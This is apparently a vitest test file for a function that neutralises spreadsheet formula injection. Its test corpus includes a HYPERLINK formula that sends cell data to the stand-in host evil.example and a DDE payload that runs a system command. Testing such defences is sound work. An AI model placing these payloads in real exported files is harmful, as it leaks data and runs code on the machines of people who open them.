import { describe, expect, it } from 'vitest';
import { neutraliseCell, restoreCell } from './spreadsheet-cells.js';

/** Formula-injection corpus (OWASP CSV injection examples and their cousins). */
export const FORMULA_CORPUS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+44 20 7946 0958',
  '+441632960961',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "'=1+1",
  "''+1",
  '=',
];

describe('spreadsheet cells', () => {
  it('neutralises every formula start with one leading quote', () => {
    for (const v of FORMULA_CORPUS) {
      const out = neutraliseCell(v);
      expect(out.startsWith("'"), v).toBe(true);
      expect(/^[=+\-@\t\r\n]/.test(out)).toBe(false);
    }
  });

  it('leaves ordinary text alone', () => {
    for (const v of ['Smith', "O'Brien", "'quoted", '', '1+1', 'a=b', ' =x']) {
      expect(neutraliseCell(v)).toBe(v);
      expect(restoreCell(v)).toBe(v);
    }
  });

  it('restore is the exact inverse of neutralise', () => {
    for (const v of [...FORMULA_CORPUS, 'plain', "'", "''", "'a"]) {
      expect(restoreCell(neutraliseCell(v))).toBe(v);
    }
  });
});
